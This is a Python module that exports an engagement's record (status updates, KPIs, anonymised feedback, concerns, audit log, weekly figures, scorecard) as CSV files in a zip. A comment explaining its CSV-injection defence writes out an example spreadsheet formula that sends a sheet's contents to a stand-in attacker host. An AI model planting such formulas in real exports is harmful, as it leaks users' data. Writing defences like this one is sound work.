"""An engagement's record as CSV files in one zip: status updates, their KPI figures, feedback
(anonymity kept: aggregates per survey or month from three answers up, never one answer's
ratings; comments without a time, anonymous ones without a name), concerns with their history, and the
audit log, within a date range; and the figures the views show over that range, read from
`figures` so a number is the same here as in the digest, the health card and the Home tab:
each rolling week's RAG and on-time rate, and the vendor scorecard as of the range's end.

Read with a fixed number of queries; written with the csv module. Dates are the engagement's
own days: `start` and `end` are both included. KPI figures are as the update's latest revision
recorded them, with the target, tolerance and direction in force then (not the KPI's current
target). Weeks are the figures' rolling UTC weeks ending at the range's end (or at the export's
moment, whichever is earlier).
"""

from __future__ import annotations

import csv
import io
import json
import math
import zipfile
from dataclasses import dataclass
from datetime import UTC, date, datetime, time, timedelta
from zoneinfo import ZoneInfo

from sqlmodel import Session, col, or_, select

from bot.domain import feedback_results, figures
from bot.domain.errors import UserError
from bot.domain.form_families import exported_files
from bot.domain.updates.evidence import KpiOutcome
from storage.models import (
    AuditEvent,
    Cadence,
    CheckIn,
    Concern,
    ConcernEvent,
    Engagement,
    Feedback,
    KpiDefinition,
    KpiValue,
    RiskReview,
    StatusUpdate,
    UpdateRevision,
)

MAX_RANGE_DAYS = 366 * 5
MAX_WEEKS = 260  # weekly.csv covers at most the last five years of the range
# What the engagement did in the range: each form family's answers (`form_families`) and the
# concern register; an export with none of it is empty (the audit log, the weekly figures and
# the scorecard are context, always there).
RECORD_FILES = (*exported_files(), "concerns.csv", "concern_history.csv")


def parse_range(words: tuple[str, ...], *, today: date) -> tuple[date | None, date | None]:
    """`[from] [to]` as typed (YYYY-MM-DD); UserError naming the fix when they are not dates
    or run backwards. Neither: everything; only `from`: from then until today."""
    days: list[date] = []
    for word in words:
        try:
            days.append(date.fromisoformat(word))
        except ValueError:
            raise UserError(
                f"“{word[:30]}” is not a date: write it as YYYY-MM-DD, e.g. "
                "`/cadence export acme-payments 2026-10-01 2026-12-31`."
            ) from None
    if len(days) > 2:
        raise UserError("Give at most two dates: the first day and the last day.")
    start = days[0] if days else None
    end = days[1] if len(days) == 2 else (today if days else None)
    if start and end and end < start:
        raise UserError(f"The last day ({end}) comes before the first ({start}): swap them.")
    if start and end and (end - start).days > MAX_RANGE_DAYS:
        raise UserError("Export at most five years at a time.")
    return start, end


@dataclass(frozen=True)
class ExportFile:
    name: str
    rows: int
    text: str


@dataclass(frozen=True)
class Export:
    engagement: Engagement
    start: date | None
    end: date | None
    files: tuple[ExportFile, ...]

    @property
    def empty(self) -> bool:
        return all(f.rows == 0 for f in self.files if f.name in RECORD_FILES)

    def period(self) -> str:
        if self.start is None:
            return "its whole history"
        return f"{self.start:%d %b %Y} to {self.end:%d %b %Y}"

    def zipped(self) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for f in self.files:
                archive.writestr(f.name, f.text)
        return buffer.getvalue()

    def filename(self) -> str:
        span = f"-{self.start}-{self.end}" if self.start else ""
        return f"cadence-{self.engagement.handle}{span}.zip"


# A spreadsheet reads a cell that starts with one of these as a formula (OWASP, "CSV
# Injection"): `=HYPERLINK("https://evil.example/?d="&A1)` in a summary would send the lead's
# sheet to whoever typed it. Text is written with a leading quote instead; numbers Cadence
# writes itself (a KPI of -5.0) are not text and stay numbers.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: object) -> object:
    """`value` as a CSV cell a spreadsheet shows rather than evaluates: text that would start
    a formula gets a leading single quote; the csv module still quotes what needs quoting."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _csv(header: list[str], rows: list[list[object]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([cell(h) for h in header])
    writer.writerows([cell(v) for v in row] for row in rows)
    return out.getvalue()


def _when(moment: datetime | None) -> str:
    return moment.isoformat(timespec="seconds") if moment else ""


def _number(value: float | None) -> object:
    return "" if value is None else value


def _rate(rate: figures.Rate) -> object:
    return "" if rate.value is None else rate.value


def figures_span(
    *, since: datetime | None, until: datetime | None, created_at: datetime, now: datetime
) -> tuple[datetime, int]:
    """The moment the range's figures are computed at (its end, or the export's moment when
    open-ended or still running) and how many rolling weeks they cover (from the range's start,
    or the engagement's creation; 1 to MAX_WEEKS)."""
    end = min(until, now) if until is not None else now
    first = since if since is not None else created_at
    weeks = math.ceil((end - first) / figures.WEEK) if end > first else 1
    return end.astimezone(UTC), max(1, min(MAX_WEEKS, weeks))


def _weekly(found: figures.Figures, *, end: datetime, weeks: int) -> list[list[object]]:
    return [
        [_when(week_start), _when(week_start + figures.WEEK), rag or "", rate.counted, rate.met,
         _rate(rate)]
        for week_start, rag, rate in zip(
            figures.week_starts(end, weeks), found.rag_trend, found.on_time_by_week, strict=True
        )
    ]  # fmt: skip


RISK_REVIEW_HEADER = ["review_id", "submitted_at", "author", "late", "concern_id", "status_before",
                      "choice", "note", "raised_concern_id"]  # fmt: skip


def _review_rows(review: RiskReview) -> list[list[object]]:
    """A risk review as given: a row per concern it answered (what the author chose for it and
    why), or one row when it answered none (it may only have raised a new one)."""
    head = [review.id, _when(review.submitted_at), review.author, review.late]
    raised = (review.answers or {}).get("raised") or ""
    answered = (review.answers or {}).get("concerns") or []
    if not answered:
        return [[*head, "", "", "", "", raised]]
    return [
        [*head, a.get("concern_id", ""), a.get("status_before", ""), a.get("choice", ""),
         a.get("note", ""), raised]
        for a in answered
    ]  # fmt: skip


def _scorecard(card: figures.Scorecard) -> list[list[object]]:
    rows: list[list[object]] = []
    for label, parts in (
        (f"last {figures.SCORE_WEEKS} weeks", card.now),
        (f"{figures.SCORE_WEEKS} weeks before", card.before),
    ):
        if parts is None:
            continue
        rows.append(
            [label, _when(parts.period_end - figures.SCORE_WEEKS * figures.WEEK),
             _when(parts.period_end), parts.on_time.met, parts.on_time.counted,
             parts.kpis_met.met, parts.kpis_met.counted, parts.sla.met, parts.sla.counted,
             _number(parts.feedback),
             _number(parts.score)]
        )  # fmt: skip
    return rows


SCORECARD_HEADER = [
    "period", "period_start", "period_end", "on_time_met", "on_time_counted", "kpis_met",
    "kpis_reported", "sla_met", "sla_counted", "feedback_mean", "score",
]  # fmt: skip


FEEDBACK_HEADER = [
    "group", "group_start", "answers", "communication", "quality", "timeliness", "overall",
    "scores",
]  # fmt: skip


def _feedback(
    session: Session,
    *,
    engagement_id: int,
    since: datetime | None,
    until: datetime | None,
    now: datetime,
) -> tuple[list[list[object]], list[list[object]]]:
    """The feedback of the range without one answer in it: per batch (a survey's answers in
    its window, or a month's ad hoc and late answers; `feedback_results.Batch`) its number of
    answers and average ratings, these only from MIN_ANSWERS answers up; and the comments,
    named ones with their author, anonymous ones with none and only from batches whose scores
    are shown, in the order of their words (not of their arrival), without a time.

    A batch is in the range when it starts in it, and then whole, and only once it counts
    (its survey closed, its month ended): two exports over different ranges, or a day apart,
    differ by whole batches, never by one person's answer."""
    rows = session.exec(
        select(Feedback, CheckIn.created_at, CheckIn.window_closes_at, CheckIn.occurrence_key)
        .outerjoin(CheckIn, col(CheckIn.id) == col(Feedback.checkin_id))
        .where(Feedback.engagement_id == engagement_id)
    ).all()
    batches: dict[str, tuple[feedback_results.Batch, list[Feedback]]] = {}
    for row, opened, closes, slot in rows:
        batch = feedback_results.batch_of(
            counted=row.submitted_at, checkin_id=row.checkin_id, opened=opened, closes=closes,
            slot=(slot or "").replace("T", " "),
        )  # fmt: skip
        if batch.counts_from > now:
            continue
        if (since is not None and batch.starts < since) or (
            until is not None and batch.starts >= until
        ):
            continue
        batches.setdefault(batch.key, (batch, []))[1].append(row)
    groups: list[list[object]] = []
    comments: list[feedback_results.Comment] = []
    for batch, answers in sorted(batches.values(), key=lambda b: (b[0].starts, b[0].key)):
        results = feedback_results.summarise(
            [feedback_results.Answer(
                ratings={k: getattr(a, k) for k in feedback_results.RATINGS},
                author=None if a.anonymous else a.author_user_id, comment=a.comment,
                anonymous=a.anonymous) for a in answers]
        )  # fmt: skip
        if results.withheld:
            averages: list[object] = [""] * len(feedback_results.RATINGS)
            shown = f"withheld: under {feedback_results.MIN_ANSWERS} answers"
            comments += [
                feedback_results.Comment(a.comment.strip(), a.author_user_id)
                for a in answers
                if not a.anonymous and a.comment.strip()
            ]
        else:
            averages = [round(float(results.averages[k]), 2) for k in feedback_results.RATINGS]
            shown = "shown"
            comments += results.comments
        groups.append([batch.label, _when(batch.starts), results.answers, *averages, shown])
    ordered = feedback_results.ordered_comments(comments)
    return groups, [[c.text, c.author or "", c.author is None] for c in ordered]


def build(
    *,
    session: Session,
    team_id: str,
    engagement_id: int,
    start: date | None,
    end: date | None,
    now: datetime,
) -> Export:
    """The engagement's record between `start` and `end` (its own days, both included), and
    its figures over that range as of its end (`now`: the export's moment)."""
    engagement = session.exec(
        select(Engagement)
        .where(Engagement.team_id == team_id)
        .where(Engagement.id == engagement_id)
    ).one()
    zone = ZoneInfo(engagement.timezone)
    since = datetime.combine(start, time(0), tzinfo=zone) if start else None
    until = datetime.combine(end + timedelta(days=1), time(0), tzinfo=zone) if end else None

    def within(column):
        clauses = []
        if since is not None:
            clauses.append(column >= since)
        if until is not None:
            clauses.append(column < until)
        return clauses

    updates = session.exec(
        select(StatusUpdate)
        .where(StatusUpdate.engagement_id == engagement_id)
        .where(*within(col(StatusUpdate.submitted_at)))
        .order_by(col(StatusUpdate.submitted_at), col(StatusUpdate.id))
    ).all()
    update_ids = [u.id for u in updates]
    kpi_rows = session.exec(
        select(KpiValue, KpiDefinition)
        .join(KpiDefinition, col(KpiDefinition.id) == col(KpiValue.kpi_id))
        .where(col(KpiValue.update_id).in_(update_ids or [-1]))
        .order_by(col(KpiValue.update_id), col(KpiDefinition.position))
    ).all()
    # Each figure as its update's latest revision recorded it (what `figures` reads), with the
    # target, tolerance and direction then, by update and KPI.
    revisions = session.exec(
        select(UpdateRevision.update_id, UpdateRevision.content)
        .join(
            StatusUpdate,
            (col(StatusUpdate.id) == col(UpdateRevision.update_id))
            & (col(StatusUpdate.revision) == col(UpdateRevision.revision)),
        )
        .where(col(UpdateRevision.update_id).in_(update_ids or [-1]))
    ).all()
    reports = {
        (update_id, r.kpi_id): r
        for update_id, content in revisions
        for r in figures.kpi_reports(content or {})
    }
    feedback_groups, feedback_comments = _feedback(
        session, engagement_id=engagement_id, since=since, until=until, now=now
    )
    reviews = session.exec(
        select(RiskReview)
        .where(RiskReview.engagement_id == engagement_id)
        .where(*within(col(RiskReview.submitted_at)))
        .order_by(col(RiskReview.submitted_at), col(RiskReview.id))
    ).all()
    concerns = session.exec(
        select(Concern)
        .where(Concern.engagement_id == engagement_id)
        .where(*within(col(Concern.raised_at)))
        .order_by(col(Concern.id))
    ).all()
    events = session.exec(
        select(ConcernEvent)
        .where(col(ConcernEvent.concern_id).in_([c.id for c in concerns] or [-1]))
        .order_by(col(ConcernEvent.id))
    ).all()
    cadence_ids = session.exec(
        select(Cadence.id).where(Cadence.engagement_id == engagement_id)
    ).all()
    audit = session.exec(
        select(AuditEvent)
        .where(AuditEvent.team_id == team_id)
        .where(
            or_(
                (col(AuditEvent.entity_type) == "engagement")
                & (col(AuditEvent.entity_id) == engagement_id),
                (col(AuditEvent.entity_type) == "cadence")
                & col(AuditEvent.entity_id).in_(list(cadence_ids) or [-1]),
                (col(AuditEvent.entity_type) == "concern")
                & col(AuditEvent.entity_id).in_([c.id for c in concerns] or [-1]),
            )
        )
        .where(*within(col(AuditEvent.at)))
        .order_by(col(AuditEvent.id))
    ).all()
    # The figures over the range, as every view computes them (`figures.load` reads with a
    # fixed number of SELECTs whatever the range): the weekly rows over the range's weeks, the
    # scorecard over at least 8 so that its 4 weeks before are there.
    figures_at, weeks = figures_span(
        since=since, until=until, created_at=engagement.created_at, now=now
    )
    loaded = figures.load(
        session,
        team_id=team_id,
        engagement_ids=[engagement_id],
        now=figures_at,
        weeks=max(weeks, 2 * figures.SCORE_WEEKS),
    )[engagement_id]
    weekly = figures.compute_one(loaded, now=figures_at, weeks=weeks)
    card = figures.compute_one(
        loaded, now=figures_at, weeks=max(weeks, 2 * figures.SCORE_WEEKS)
    ).scorecard

    def kpi_row(v: KpiValue, k: KpiDefinition) -> list[object]:
        r = reports.get((v.update_id, v.kpi_id))
        if r is None:  # no revision recorded it: only whether it met its target is known
            outcome = KpiOutcome.MET if v.met_target else KpiOutcome.MISSED
            return [v.update_id, k.name, k.unit, v.value, "", "", "", outcome.value,
                    v.met_target]  # fmt: skip
        return [v.update_id, k.name, k.unit, r.value, _number(r.target), _number(r.tolerance),
                r.higher_is_better, r.outcome.value, r.outcome is KpiOutcome.MET]  # fmt: skip

    scorecard_rows = _scorecard(card)
    files = (
        ExportFile(
            "updates.csv",
            len(updates),
            _csv(
                ["update_id", "submitted_at", "author", "rag", "reason", "summary",
                 "accomplishments", "next_steps", "blockers", "confidence", "late", "revision"],
                [[u.id, _when(u.submitted_at), u.author_user_id, u.rag, u.reason, u.summary,
                  u.accomplishments, u.next_steps, u.blockers, u.confidence, u.late, u.revision]
                 for u in updates],
            ),
        ),
        ExportFile(
            "kpi_values.csv",
            len(kpi_rows),
            _csv(
                ["update_id", "kpi", "unit", "value", "target", "tolerance", "higher_is_better",
                 "outcome", "met_target"],
                [kpi_row(v, k) for v, k in kpi_rows],
            ),
        ),
        ExportFile(
            "feedback.csv",
            sum(int(row[2]) for row in feedback_groups),  # type: ignore[call-overload]
            _csv(FEEDBACK_HEADER, feedback_groups),
        ),
        ExportFile(
            "feedback_comments.csv",
            len(feedback_comments),
            _csv(["comment", "author", "anonymous"], feedback_comments),
        ),
        ExportFile(
            "risk_reviews.csv",
            len(reviews),
            _csv(RISK_REVIEW_HEADER, [row for r in reviews for row in _review_rows(r)]),
        ),
        ExportFile(
            "concerns.csv",
            len(concerns),
            _csv(
                ["concern_id", "title", "severity", "category", "status", "owner", "raised_by",
                 "raised_side", "raised_at", "acknowledge_due_at", "acknowledged_at",
                 "resolve_due_at", "resolved_at", "resolution_note", "source"],
                [[c.id, c.title, c.severity, c.category, c.status, c.owner_user_id, c.raised_by,
                  c.raised_side, _when(c.raised_at), _when(c.acknowledge_due_at),
                  _when(c.acknowledged_at), _when(c.resolve_due_at), _when(c.resolved_at),
                  c.resolution_note, c.source] for c in concerns],
            ),
        ),
        ExportFile(
            "concern_history.csv",
            len(events),
            _csv(
                ["concern_id", "at", "actor", "action", "from_status", "to_status", "note"],
                [[e.concern_id, _when(e.at), e.actor_user_id, e.action, e.from_status or "",
                  e.to_status, e.note] for e in events],
            ),
        ),
        ExportFile(
            "audit.csv",
            len(audit),
            _csv(
                ["at", "actor", "entity_type", "entity_id", "action", "before", "after"],
                [[_when(a.at), a.actor_user_id, a.entity_type, a.entity_id, a.action,
                  json.dumps(a.before, ensure_ascii=False) if a.before else "",
                  json.dumps(a.after, ensure_ascii=False) if a.after else ""] for a in audit],
            ),
        ),
        ExportFile(
            "weekly.csv",
            weeks,
            _csv(
                ["week_start", "week_end", "rag_at_week_end", "asked", "answered_on_time",
                 "on_time_rate"],
                _weekly(weekly, end=figures_at, weeks=weeks),
            ),
        ),
        ExportFile(
            "scorecard.csv",
            len(scorecard_rows),
            _csv(
                SCORECARD_HEADER,
                [*scorecard_rows,
                 [f"# {figures.SCORE_FORMULA}", *[""] * (len(SCORECARD_HEADER) - 1)]],
            ),
        ),
    )  # fmt: skip
    return Export(engagement, start, end, files)
